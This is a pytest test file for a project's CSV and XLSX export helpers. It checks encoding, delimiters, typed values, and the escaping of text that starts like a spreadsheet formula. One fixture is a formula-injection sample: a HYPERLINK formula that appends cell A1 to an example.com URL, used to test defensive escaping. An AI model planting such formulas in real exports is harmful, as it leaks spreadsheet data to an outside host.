"""The one way to write CSV and XLSX downloads: byte order mark, delimiter, and no formulas from anyone's text."""

import csv
import datetime
import decimal
import io
import zoneinfo

import pytest
from openpyxl import Workbook, load_workbook

from delaktig.core import exports

HYPERLINK = '=HYPERLINK("https://example.com/?q="&A1,"Klicka här")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(start):
    assert exports.safe_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["Lekplats", "", "a=b", " =1", "'=1", "Åsa"])
def test_other_text_is_left_alone(text):
    assert exports.safe_text(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert exports.csv_cell(-3) == -3
    assert exports.csv_cell(2.5) == 2.5
    assert exports.csv_cell(decimal.Decimal("-1.5")) == decimal.Decimal("-1.5")
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell("-3") == "'-3"  # text, even if it looks like a number
    assert exports.csv_cell(True) == "True"
    assert exports.csv_cell(datetime.date(2026, 3, 2)) == "2026-03-02"


def read(text, delimiter):
    assert text.startswith(exports.BOM)
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def test_csv_for_swedish_excel_is_utf8_with_a_mark_and_semicolons():
    text = exports.csv_text([["Titel", "Antal"], ["Fler bänkar; i parken", 3], [HYPERLINK, -1]])
    assert text.startswith("\ufeffTitel;Antal\r\n")
    assert read(text, ";") == [["Titel", "Antal"], ["Fler bänkar; i parken", "3"], ["'" + HYPERLINK, "-1"]]


def test_csv_with_commas_and_no_rows():
    assert read(exports.csv_text([["a", "b,c"]], delimiter=exports.COMMA), ",") == [["a", "b,c"]]
    assert exports.csv_text([]) == exports.BOM


@pytest.mark.parametrize("streaming", [False, True])
def test_csv_response(streaming):
    rows = (row for row in [["Namn"], [HYPERLINK]])
    response = exports.csv_response("lista.csv", rows, streaming=streaming)
    content = b"".join(response) if streaming else response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="lista.csv"'
    assert read(content.decode("utf-8"), ";") == [["Namn"], ["'" + HYPERLINK]]


def test_xlsx_values_keep_types_and_text_never_becomes_a_formula():
    stockholm = zoneinfo.ZoneInfo("Europe/Stockholm")
    moment = datetime.datetime(2026, 6, 1, 10, 0, tzinfo=datetime.UTC)
    assert exports.xlsx_value(moment) == datetime.datetime(2026, 6, 1, 12, 0)  # local time, as Excel has no zones
    assert moment.astimezone(stockholm).hour == 12
    for value in (None, 3, -2.5, True, datetime.date(2026, 1, 1)):
        assert exports.xlsx_value(value) == value
    workbook = Workbook()
    workbook.active["A1"] = exports.xlsx_value(HYPERLINK)
    workbook.active["A2"] = exports.xlsx_value("Lekplats")
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes(workbook))).active
    assert sheet["A1"].data_type == "s" and sheet["A1"].value == "'" + HYPERLINK
    assert sheet["A2"].value == "Lekplats"
